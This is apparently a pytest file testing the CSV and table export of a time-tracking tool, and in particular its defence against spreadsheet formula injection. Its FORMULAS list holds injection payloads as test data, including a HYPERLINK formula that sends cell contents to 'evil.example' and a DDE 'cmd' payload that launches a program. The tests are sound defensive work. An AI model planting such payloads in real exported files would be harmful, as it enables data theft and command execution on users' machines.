"""CSV export: a parser reads back the same texts, and no cell is a formula."""

from __future__ import annotations

import csv
import io
import os
import stat
import sys
from datetime import UTC, time
from typing import TYPE_CHECKING

import pytest

from demitasse.domain.errors import BadInput, LocalFault
from demitasse.domain.report import Grouping
from demitasse.tracker.export import (
    COLUMNS,
    SEPARATORS,
    as_csv,
    as_markdown,
    as_tab_separated,
    report_as_csv,
    write,
)
from demitasse.tracker.reports import Query
from tests.tracker.conftest import DAY

if TYPE_CHECKING:
    from pathlib import Path

    from tests.tracker.conftest import Tracker

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1|cmd", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1",
    "\0=1+1", "＝1+1", "=cmd|' /C calc'!A0", "\n@x",
)  # fmt: skip


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_day_in_the_order_it_was_worked(tracker: Tracker) -> None:
    tracker.sheets.add(1, 1, 5400, comment='Fix "login", then\nwait', start_time=time(8), end_time=time(9, 30))
    tracker.timer.start(2, 2, "Über uns")
    tracker.clock.advance(61)
    text = as_csv([tracker.sheets.day()], UTC)
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    first, second = read(text)
    assert first == {
        "day": "2026-03-02", "start": "08:00", "end": "09:30", "duration": "1:30:00", "seconds": "5400",
        "client": "Acme", "project": "Website relaunch", "task": "Coding", "comment": 'Fix "login", then\nwait',
        "state": "waiting", "hours": "1.50",
    }  # fmt: skip
    assert (second["duration"], second["state"], second["comment"], second["end"]) == (
        "0:01:01", "running", "Über uns", "",
    )  # fmt: skip


@pytest.mark.parametrize("words", FORMULAS)
def test_no_text_is_a_formula(tracker: Tracker, words: str) -> None:
    row = tracker.sheets.add(1, 1, 60)
    with tracker.store.transaction():
        tracker.store.entries._table.update(row.id, {"comment": words})
        tracker.store.database.write("UPDATE project SET name = ? WHERE id = ?", (words, row.id))
    (cells,) = read(as_csv([tracker.sheets.day()], UTC))
    for name in ("comment", "project"):
        assert cells[name].lstrip().startswith("'")
        assert cells[name].replace("'", "") == words.replace("\0", "").replace("'", "")
    assert not [cell for cell in cells.values() if cell.lstrip()[:1] in set("=+-@＝")], "nor anything else"
    assert cells["seconds"] == "60", "a number stays a number"


@pytest.mark.parametrize("words", ["x;=1+1;y", "x|@SUM(A1)", "x\t-1+1", "x; =1+1", "a\n=1+1", "x,+1;-1|=1", "=1;=2"])
@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("reader", SEPARATORS)
def test_no_part_of_a_text_is_a_formula_whatever_separates_the_cells(
    tracker: Tracker, words: str, separator: str, reader: str
) -> None:
    """Which separator a spreadsheet expects is a setting of its computer."""
    row = tracker.sheets.add(1, 1, 60)
    with tracker.store.transaction():
        tracker.store.entries._table.update(row.id, {"comment": words})
    text = as_csv([tracker.sheets.day()], UTC, separator)
    cells = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=reader) for cell in line]
    parts = [part for cell in cells for part in cell.replace('"', "").splitlines()]
    assert not [part for part in parts if part.lstrip()[:1] in set("=+-@")]


def test_semicolons_come_with_a_decimal_comma(tracker: Tracker) -> None:
    tracker.sheets.add(1, 1, 5400, comment="a; b, c")
    text = as_csv([tracker.sheets.day()], UTC, ";")
    (cells,) = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")
    assert (cells["hours"], cells["comment"], cells["seconds"]) == ("1,50", "a; b, c", "5400")


def test_other_text_stays_unchanged(tracker: Tracker) -> None:
    tracker.sheets.add(1, 1, 60, comment="a=b + c @ d - 'e'")
    assert read(as_csv([tracker.sheets.day()], UTC))[0]["comment"] == "a=b + c @ d - 'e'"


def test_a_file_is_private_complete_and_replaced_only_with_force(tmp_path: Path) -> None:
    file = tmp_path / "days.csv"
    write(file, "ä\r\n", force=False)
    assert file.read_bytes() == b"\xef\xbb\xbf\xc3\xa4\r\n"
    if sys.platform != "win32":
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
    with pytest.raises(BadInput, match="export_exists"):
        write(file, "b", force=False)
    assert file.read_bytes().endswith(b"\xc3\xa4\r\n")
    write(file, "c", force=True)
    assert file.read_text(encoding="utf-8-sig") == "c"
    with pytest.raises(LocalFault):
        write(tmp_path / "nowhere" / "days.csv", "d", force=True)
    assert [one.name for one in tmp_path.iterdir() if one.is_file()] == ["days.csv"], "no draft is left behind"


@pytest.mark.skipif(sys.platform == "win32", reason="links and pipes")
def test_links_are_followed_and_only_files_are_replaced(tmp_path: Path) -> None:
    target, link, pipe = tmp_path / "target.csv", tmp_path / "link.csv", tmp_path / "pipe"
    link.symlink_to(target)
    write(link, "one", force=False)
    assert (link.is_symlink(), target.read_text(encoding="utf-8-sig")) == (True, "one")
    with pytest.raises(BadInput):
        write(link, "two", force=False)
    write(link, "two", force=True)
    assert (link.is_symlink(), target.read_text(encoding="utf-8-sig")) == (True, "two")
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    write(pipe, "three", force=True)
    assert os.read(reader, 100) == b"three"
    os.close(reader)
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    with pytest.raises(LocalFault):
        write(tmp_path, "four", force=True)


@pytest.mark.parametrize("length", [240, 244, 250, 255])
def test_the_longest_names_are_written(tmp_path: Path, length: int) -> None:
    file = tmp_path / ("x" * (length - 4) + ".csv")
    write(file, "ä", force=False)
    assert file.read_text(encoding="utf-8-sig") == "ä"


@pytest.mark.parametrize("name", ["x" * 256, "a/b/c"])
def test_a_name_that_cannot_be_is_a_fault(tmp_path: Path, name: str) -> None:
    with pytest.raises(LocalFault):
        write(tmp_path / name, "x", force=True)


@pytest.mark.parametrize("grouping", list(Grouping))
def test_a_report_as_csv_is_read_back_and_has_no_formulas(tracker: Tracker, grouping: Grouping) -> None:
    tracker.sheets.add(1, 1, 5400)
    tracker.sheets.add(2, 2, 1800)
    with tracker.store.transaction():
        tracker.store.database.write("UPDATE project SET name = '=1+1' WHERE id = 1")
        tracker.store.database.write("UPDATE task SET label = ? WHERE id = 1", ('Cod"ing; x',))
    report = tracker.reports.report(Query(DAY, DAY, grouping))
    for separator in SEPARATORS:
        found = list(csv.DictReader(io.StringIO(report_as_csv(report, separator), newline=""), delimiter=separator))
        assert sum(int(row["seconds"]) for row in found) == 7200
        assert sum(int(row["entries"]) for row in found) == 2
        assert sum(float(row["share"].replace(",", ".")) for row in found) == 1
        hours = sum(float(row["hours"].replace(",", ".")) for row in found)
        assert hours == 2
        assert not [cell for row in found for cell in row.values() if cell.startswith("=")]
        if grouping is Grouping.TASK:
            assert found[0]["task"] == 'Cod"ing; x'


def test_tables_keep_their_form_whatever_the_names_are() -> None:
    rows = [["Project", "Duration"], ["a|b\n*c* <i>\tx", "1:30"], ["=1+1", "0:30"]]
    assert as_tab_separated(rows) == "Project\tDuration\na|b *c* <i> x\t1:30\n'=1+1\t0:30\n"
    assert as_markdown(rows, 1) == (
        "| Project | Duration |\n| --- | ---: |\n| a\\|b \\*c\\* \\<i\\> x | 1:30 |\n| =1+1 | 0:30 |\n"
    )
